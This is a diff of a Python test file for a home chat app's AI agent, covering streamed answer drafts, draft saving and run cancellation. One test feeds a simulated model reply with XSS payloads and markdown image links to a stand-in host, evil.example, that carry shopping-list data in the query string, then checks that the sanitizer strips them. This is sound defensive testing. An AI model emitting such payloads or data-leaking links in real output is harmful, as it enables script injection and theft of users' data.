@@ -1,4 +1,4 @@
-"""An answer while it is written: in pieces, to who may hear it, kept for who comes later, and stopped."""
+"""Drafts of answers: streamed to clients, saved while they are written, and stopped."""
 
 import pytest
 from django.test import Client
@@ -14,122 +14,124 @@ from pixie.runs import lease, llm_loop, queue
 from pixie.runs.draft import answer_id
 from pixie.runs.wait import get_answer
 from tests.factories import by
-from tests.pixie.providers import Says, Wants
-from tests.pixie.test_thinking import HARD
+from tests.pixie.providers import Call, Reply
+from tests.pixie.runs import MODEL_REQUEST
 
 STORY = "Once upon a time there was a home with an empty fridge. "
 
 
 @pytest.fixture
 def frames(monkeypatch):
-    told = []
-    monkeypatch.setattr(broadcast, "send_transient", lambda home_id, said, **more: told.append({**said, **more}))
-    return told
+    sent_frames = []
+    monkeypatch.setattr(
+        broadcast, "send_transient", lambda home_id, frame, **options: sent_frames.append({**frame, **options})
+    )
+    return sent_frames
 
 
-def put_together(frames):
-    """What a page that heard all frames shows after each."""
-    text, shown = "", []
+def page_texts(frames):
+    """Return the texts that a page shows after each frame."""
+    text, texts = "", []
     for frame in frames:
         assert frame["at"] <= len(text)
         text = text[: frame["at"]] + frame["text"]
-        shown.append(text)
-    return shown
+        texts.append(text)
+    return texts
 
 
-def test_it_comes_in_pieces_that_add_up(tell, talk, provider, frames, monkeypatch):
+def test_draft_is_streamed_in_frames(tell, talk, provider, frames, monkeypatch):
     monkeypatch.setattr(runs_draft, "FRAME_SECONDS", 0.0)
-    provider.plays(Says(STORY * 3 + "😀 Ende", pieces=10, pause=0.02))
-    answer = tell(HARD)
-    shown = put_together(frames)
-    assert len({text for text in shown if text}) > 3
-    assert all(answer.body.startswith(text) for text in shown)
+    provider.enqueue(Reply(STORY * 3 + "😀 Ende", pieces=10, pause=0.02))
+    answer = tell(MODEL_REQUEST)
+    texts = page_texts(frames)
+    assert len({text for text in texts if text}) > 3
+    assert all(answer.body.startswith(text) for text in texts)
     assert {frame["type"] for frame in frames} == {"message_delta"}
     assert {(frame["message_id"], frame["channel_id"], frame["audience"]) for frame in frames} == {
         (answer.pk, talk.pk, talk.pk)
     }
 
 
-def test_in_a_room_for_all_everybody_hears_it(tell, general, provider, frames):
-    tell(f"Pixie, {HARD}", where=general)
+def test_frames_in_a_public_room_are_for_everybody(tell, general, provider, frames):
+    tell(f"Pixie, {MODEL_REQUEST}", where=general)
     assert {frame["audience"] for frame in frames} == {None}
 
 
-def test_in_a_private_room_those_in_it(nok, tell, provider, frames):
+def test_frames_in_a_private_room_are_for_its_members(nok, tell, provider, frames):
     room = create_channel("presents", by=by(nok), is_private=True)
-    tell(f"Pixie, {HARD}", where=room)
+    tell(f"Pixie, {MODEL_REQUEST}", where=room)
     assert {frame["audience"] for frame in frames} == {room.pk}
 
 
-def test_pieces_are_gathered(tell, provider, frames, monkeypatch):
+def test_frames_are_throttled(tell, provider, frames, monkeypatch):
     monkeypatch.setattr(runs_draft, "FRAME_SECONDS", 60.0)
-    provider.plays(Says(STORY * 20, pieces=1))
-    tell(HARD)
+    provider.enqueue(Reply(STORY * 20, pieces=1))
+    tell(MODEL_REQUEST)
     assert len(frames) <= 2
 
 
-def test_what_is_being_done_is_told(tell, weekly, provider, frames):
-    provider.plays(Says(calls=(Wants("list_items"),)), Says(STORY))
-    tell(HARD)
+def test_frames_describe_the_current_activity(tell, weekly, provider, frames):
+    provider.enqueue(Reply(calls=(Call("list_items"),)), Reply(STORY))
+    tell(MODEL_REQUEST)
     doing = [frame["doing"] for frame in frames]
     assert doing[0] == "Thinking…"
     assert "Looking at your list…" in doing
 
 
-def test_the_words_so_far_are_kept_for_who_comes_later(nok, sign_in, talk, tell, provider, monkeypatch, frames):
+def test_draft_is_saved_while_it_is_written(nok, sign_in, talk, tell, provider, monkeypatch, frames):
     monkeypatch.setattr(runs_draft, "SAVE_SECONDS", 0.0)
     seen = []
 
     real = runs_draft.save_draft
 
-    def kept(draft, body, doing=""):
+    def save_and_record(draft, body, doing=""):
         real(draft, body, doing)
         row = Message.objects.get(pk=draft.pk)
         page = sign_in(nok).get(reverse("chat:channel", args=[nok.home_id, talk.pk])).content.decode()
         seen.append((row.state, row.body, row.body in page, "Stop" in page))
 
-    monkeypatch.setattr(runs_draft, "save_draft", kept)
-    provider.plays(Says(STORY * 2, pieces=20, pause=0.06))
-    tell(HARD)
+    monkeypatch.setattr(runs_draft, "save_draft", save_and_record)
+    provider.enqueue(Reply(STORY * 2, pieces=20, pause=0.06))
+    tell(MODEL_REQUEST)
     assert len(seen) > 3
     assert {(state, on_page, stop) for state, _body, on_page, stop in seen} == {(MessageState.STREAMING, True, True)}
     assert len({body for _state, body, _on_page, _stop in seen}) > 2
 
 
-def test_a_draft_is_no_message_yet(nok, pixie, talk, general, provider, events):
+def test_draft_is_not_listed_logged_or_counted(nok, pixie, talk, general, provider, events):
     from chat.actions import start_draft
     from chat.unread import unread_total
 
-    asked = send_message(general, f"Pixie, {HARD}", by=by(nok))
+    message = send_message(general, f"Pixie, {MODEL_REQUEST}", by=by(nok))
     queue.enqueue_runs(pixie.home_id)
     run = Run.objects.get()
     before = events(nok.home)
     start_draft(general, by=by(nok).as_agent(pixie), pk=answer_id(run))
     client = Client(headers={"Authorization": f"Bearer {tokens_for(nok.user, nok)['token']}"})
     url = f"/api/homes/{nok.home_id}/channels/{general.pk}/messages"
-    assert [row["id"] for row in client.get(url).json()["results"]] == [str(asked.pk)]
+    assert [row["id"] for row in client.get(url).json()["results"]] == [str(message.pk)]
     assert client.get(f"{url}/{answer_id(run)}").json()["state"] == "streaming"
     assert (events(nok.home), unread_total(nok), get_answer(run)) == (before, 0, None)
 
 
-def test_what_a_model_writes_is_harmless(tell, provider, frames):
-    provider.plays(
-        Says(
+def test_markup_and_links_are_removed(tell, provider, frames):
+    provider.enqueue(
+        Reply(
             "Look: <img src=x onerror=alert(1)> ![a](https://evil.example/x?milk) [here](https://evil.example/y) "
             "<script>alert(1)</script> at https://evil.example/z?list=milk and **bold**.",
             pieces=7,
             pause=0.01,
         )
     )
-    answer = tell(HARD)
+    answer = tell(MODEL_REQUEST)
     assert answer.body == "Look:  a here  at evil.example and bold."
-    for text in put_together(frames):
+    for text in page_texts(frames):
         assert "<" not in text and "http" not in text and "milk" not in text
 
 
-def test_links_of_an_agent_are_none_on_the_page(nok, sign_in, talk, tell, provider):
-    provider.plays(Says("See evil.example.com for it <b>now</b>."))
-    tell(HARD)
+def test_addresses_in_answers_are_not_linked(nok, sign_in, talk, tell, provider):
+    provider.enqueue(Reply("See evil.example.com for it <b>now</b>."))
+    tell(MODEL_REQUEST)
     page = sign_in(nok).get(reverse("chat:channel", args=[nok.home_id, talk.pk])).content.decode()
     assert "See evil.example.com for it" in page
     assert 'href="http://evil' not in page
@@ -139,75 +141,75 @@ def test_links_of_an_agent_are_none_on_the_page(nok, sign_in, talk, tell, provid
 
 
 @pytest.fixture
-def working(nok, pixie, talk):
-    """A run that a worker holds."""
-    send_message(talk, HARD, by=by(nok))
+def running_run(nok, pixie, talk):
+    """A run claimed by a worker."""
+    send_message(talk, MODEL_REQUEST, by=by(nok))
     queue.enqueue_runs(pixie.home_id)
     return queue.claim_run(pixie)
 
 
-def api(member):
+def api_client(member):
     return Client(headers={"Authorization": f"Bearer {tokens_for(member.user, member)['token']}"})
 
 
-def test_cancelling_asks_the_worker(nok, working, events):
+def test_cancelling_a_running_run_requests_a_stop(nok, running_run, events):
     before = events(nok.home)
-    answer = api(nok).post(f"/api/homes/{nok.home_id}/runs/{working.pk}/cancel")
+    answer = api_client(nok).post(f"/api/homes/{nok.home_id}/runs/{running_run.pk}/cancel")
     assert (answer.status_code, answer.json()["status"]) == (200, "running")
-    working.refresh_from_db()
-    assert working.stop_asked_at is not None
+    running_run.refresh_from_db()
+    assert running_run.stop_asked_at is not None
     assert events(nok.home) == before
 
 
-def test_what_has_not_begun_is_cancelled_at_once(nok, pixie, talk):
-    send_message(talk, HARD, by=by(nok))
+def test_waiting_run_is_cancelled_immediately(nok, pixie, talk):
+    send_message(talk, MODEL_REQUEST, by=by(nok))
     queue.enqueue_runs(pixie.home_id)
     run = Run.objects.get()
-    answer = api(nok).post(f"/api/homes/{nok.home_id}/runs/{run.pk}/cancel").json()
+    answer = api_client(nok).post(f"/api/homes/{nok.home_id}/runs/{run.pk}/cancel").json()
     assert (answer["status"], answer["response"]["message"]) == ("cancelled", "Stopped.")
     run.refresh_from_db()
     assert (run.status, run.stop_reason) == (RunStatus.CANCELLED, StopReason.CANCELLED)
     assert queue.process_home(nok.home_id) == 0
 
 
-def test_cancelling_what_is_finished_is_harmless(nok, tell, weekly):
+def test_cancelling_a_finished_run_changes_nothing(nok, tell, weekly):
     tell("We need eggs")
     run = Run.objects.get()
-    answer = api(nok).post(f"/api/homes/{nok.home_id}/runs/{run.pk}/cancel").json()
+    answer = api_client(nok).post(f"/api/homes/{nok.home_id}/runs/{run.pk}/cancel").json()
     assert (answer["status"], answer["response"]["message"][:10]) == ("completed", "Added Eggs")
 
 
-def test_nobody_cancels_what_they_do_not_see(nok, ben, working):
-    assert api(ben).post(f"/api/homes/{nok.home_id}/runs/{working.pk}/cancel").status_code == 404
-    working.refresh_from_db()
-    assert working.stop_asked_at is None
+def test_run_of_an_invisible_channel_cannot_be_cancelled(nok, ben, running_run):
+    assert api_client(ben).post(f"/api/homes/{nok.home_id}/runs/{running_run.pk}/cancel").status_code == 404
+    running_run.refresh_from_db()
+    assert running_run.stop_asked_at is None
 
 
-def test_the_button_stops_it(nok, ben, sign_in, working, talk):
-    url = reverse("pixie:stop", args=[nok.home_id, answer_id(working)])
+def test_stop_button_requests_a_stop(nok, ben, sign_in, running_run, talk):
+    url = reverse("pixie:stop", args=[nok.home_id, answer_id(running_run)])
     assert sign_in(ben).post(url).status_code == 404
     answer = sign_in(nok).post(url)
     assert (answer.status_code, answer.url) == (302, reverse("chat:channel", args=[nok.home_id, talk.pk]))
-    working.refresh_from_db()
-    assert working.stop_asked_at is not None
+    running_run.refresh_from_db()
+    assert running_run.stop_asked_at is not None
 
 
-def test_what_tools_did_before_the_stop_stays_and_is_told(nok, tell, weekly, provider, monkeypatch):
+def test_stopped_answer_keeps_its_receipt(nok, tell, weekly, provider, monkeypatch):
     monkeypatch.setattr(llm_loop, "CHECK_SECONDS", 0.0)
 
-    def stopped_meanwhile(body):
+    def respond(body):
         if len(body["messages"]) == 1:
-            return Says(calls=(Wants("add_item", {"name": "cake"}),))
-        return Says(STORY * 9, pieces=10, pause=0.02)
+            return Reply(calls=(Call("add_item", {"name": "cake"}),))
+        return Reply(STORY * 9, pieces=10, pause=0.02)
 
-    provider.brain = stopped_meanwhile
+    provider.respond = respond
     real, seen = lease.stop_requested, []
 
-    def asked_in_the_second_step(run):
+    def stop_in_second_step(run):
         seen.append(1)
-        return real(run) or (len(provider.asked) == 2 and len(seen) > 6)
+        return real(run) or (len(provider.requests) == 2 and len(seen) > 6)
 
-    monkeypatch.setattr(lease, "stop_requested", asked_in_the_second_step)
-    answer = tell(HARD)
+    monkeypatch.setattr(lease, "stop_requested", stop_in_second_step)
+    answer = tell(MODEL_REQUEST)
     assert answer.state == MessageState.ABORTED
     assert answer.metadata["receipt"]["lines"][0]["name"] == "Cake"
